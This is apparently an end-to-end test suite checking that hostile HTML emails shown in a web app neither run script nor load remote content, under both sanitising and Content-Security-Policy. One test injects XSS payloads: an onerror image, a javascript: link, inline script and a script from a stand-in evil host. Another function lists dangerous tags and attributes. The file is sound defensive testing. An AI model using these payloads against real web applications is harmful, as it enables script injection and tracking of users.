"""Hostile HTML mails rendered in Chromium: nothing runs, nothing loads from
elsewhere. The sanitiser (channels/email/html.py) is the first line; the
Content-Security-Policy is the second, shown to hold on its own by putting
raw hostile markup into a page behind the sanitiser's back."""

from __future__ import annotations

from datetime import timedelta

import pytest
from playwright.sync_api import expect

from tests.e2e import seed
from tests.e2e.conftest import Browse
from tests.e2e.hostile import CORPUS
from tests.e2e.server import Product

pytestmark = pytest.mark.e2e
REP = "rep1@insurer.example"

# Run in each page: fire every handler a hostile attribute could hang on
# (hover, click, focus, toggle) on every element of the mails, without
# following links to other sites (a rep clicking a link is not a remote load).
_PROVOKE = """() => {
  const els = document.querySelectorAll(".mail-html *");
  for (const el of els) {
    for (const type of ["mouseover", "mouseenter", "focus", "toggle", "load", "error"]) {
      el.dispatchEvent(new Event(type, {bubbles: true}));
    }
    const href = el.getAttribute("href");
    if (el.tagName !== "A" || !href || !/^(https?:|mailto:|tel:)/i.test(href)) { el.click(); }
  }
  return els.length;
}"""
# What must not be in the mails' DOM after sanitising.
_LEFTOVERS = """() => {
  const root = document.querySelectorAll(".mail-html");
  const bad = [];
  for (const mail of root) {
    for (const el of mail.querySelectorAll("*")) {
      const tag = el.tagName.toLowerCase();
      if (["script", "style", "link", "meta", "base", "iframe", "object", "embed", "form",
           "input", "button", "svg", "math", "video", "audio", "source", "template",
           "noscript"].includes(tag)) { bad.push("<" + tag + ">"); }
      for (const a of el.attributes) {
        const name = a.name.toLowerCase(), value = a.value.trim().toLowerCase();
        if (name.startsWith("on") || name === "srcset" || name === "background"
            || name === "formaction" || name === "action" || name === "poster") {
          bad.push(tag + "[" + name + "]");
        }
        if ((name === "href" || name === "src") && !/^(https?:|mailto:|tel:|data:image\\/png|\\/)/
            .test(value)) { bad.push(tag + "[" + name + "=" + value.slice(0, 30) + "]"); }
        if (name === "src" && /^https?:/.test(value)) { bad.push("remote " + value); }
        if (name === "style" && /url\\(|expression|@import/.test(value)) {
          bad.push("style " + value);
        }
      }
    }
  }
  return bad;
}"""


@pytest.fixture(scope="module")
def hostile_threads(product: Product) -> dict[str, int]:
    """One thread per group of the corpus, each mail filed as a real .eml."""
    email, _ = seed.customer_with_claim(product, "Mallory Hostile")
    start = seed.now() - timedelta(hours=1)
    threads: dict[str, int] = {}
    for group, mails in CORPUS.items():
        for n, (name, html) in enumerate(mails):
            subject = f"{'Re: ' if n else ''}Hostile mail: {group}"
            at = start + timedelta(seconds=len(threads) * 100 + n)
            thread_id = seed.file_email(product, seed.raw_email(
                sender=email, name="Mallory Hostile", subject=subject,
                text=f"{name} (text part)", html=f"<p>{name}</p>{html}", at=at), at=at)
            assert threads.setdefault(group, thread_id) == thread_id, (group, name)
    return threads


@pytest.mark.parametrize("group", list(CORPUS))
def test_hostile_mail_runs_nothing_and_loads_nothing(
        browse: Browse, hostile_threads: dict[str, int], group: str) -> None:
    page = browse.page_as(REP)
    url = f"{browse.product.base}/threads/{hostile_threads[group]}"
    page.goto(url)
    mails = page.locator(".mail-html")
    expect(mails).to_have_count(len(CORPUS[group]))
    for name, _ in CORPUS[group]:  # every mail is shown (its harmless part)
        expect(page.locator("article.msg").filter(has_text=name).first).to_be_visible()

    assert page.evaluate(_LEFTOVERS) == []
    assert page.evaluate(_PROVOKE) > 0
    page.mouse.move(10, 10)
    for mail in mails.all():  # real pointer movement and clicks too
        mail.hover()
        mail.click(position={"x": 2, "y": 2})
    page.wait_for_load_state("networkidle")
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.url == url  # no refresh, no navigation
    if group == "remote":
        expect(page.locator(".remote-blocked").first).to_be_visible()
    # The browse fixture then checks: no dialog, no console error, no CSP
    # violation (nothing even tried), and no request left 127.0.0.1.


def test_csp_stops_what_a_sanitiser_bug_would_let_through(
        browse: Browse, hostile_threads: dict[str, int]) -> None:
    page = browse.page_as(REP)
    page.goto(f"/threads/{hostile_threads['script']}")
    # Raw hostile markup put straight into the page, as if the sanitiser had failed.
    page.evaluate("""() => {
      const mail = document.querySelector(".mail-html");
      mail.insertAdjacentHTML("beforeend",
        '<img src="x.gif" onerror="window.__pwned=1">' +
        '<img src="http://tracker.example/leak.gif">' +
        '<a id="js" href="javascript:window.__pwned=2">x</a>');
      const s = document.createElement("script");
      s.textContent = "window.__pwned = 3";
      document.body.append(s);
      const r = document.createElement("script");
      r.src = "http://evil.example/x.js";
      document.body.append(r);
      document.getElementById("js").click();
    }""")
    page.wait_for_timeout(300)
    assert page.evaluate("typeof window.__pwned") == "undefined"
    watch = browse.watch
    watch.collect_violations()
    blocked = " ".join(watch.violations)
    for directive in ("script-src-attr", "script-src-elem", "img-src"):
        assert directive in blocked, watch.violations
    assert "http://tracker.example/leak.gif" in blocked
    assert watch.foreign == []  # refused by the browser before any request was made
    # Expected here: the violations and the console's reports of them.
    watch.violations.clear()
    watch.console_errors.clear()
    for page_ in watch.pages:
        page_.evaluate("window.__cspViolations = []")


def test_the_watch_sees_a_remote_load(browse: Browse) -> None:
    """Control: a page without our policy does fetch the tracker, and the
    watch records (and aborts) it, so the tests above could fail."""
    page = browse.page()
    page.set_content('<img src="http://tracker.example/control.gif">')
    page.wait_for_load_state("networkidle")
    assert browse.watch.foreign == ["http://tracker.example/control.gif"]
    browse.watch.foreign.clear()
    browse.watch.console_errors.clear()  # net::ERR_BLOCKED_BY_CLIENT


def test_every_page_sends_the_content_security_policy(browse: Browse,
                                                      hostile_threads: dict[str, int]) -> None:
    page = browse.page()
    responses = [page.goto("/login")]
    page = browse.page_as(REP)
    responses += [page.goto("/"), page.goto(f"/threads/{hostile_threads['remote']}")]
    nonces = set()
    for response in responses:
        assert response is not None
        assert response.ok
        csp = response.headers["content-security-policy"]
        directives = dict(d.strip().split(" ", 1) for d in csp.split(";"))
        assert directives["default-src"] == "'self'"
        assert directives["script-src"].startswith("'self' 'nonce-")
        assert "unsafe-inline" not in directives["script-src"]
        assert directives["img-src"] == "'self' data:"
        assert directives["object-src"] == "'none'"
        assert directives["base-uri"] == "'none'"
        assert directives["frame-ancestors"] == "'none'"
        assert directives["form-action"] == "'self'"
        assert response.headers["x-content-type-options"] == "nosniff"
        nonces.add(directives["script-src"])
    assert len(nonces) == len(responses)  # a fresh nonce for every page
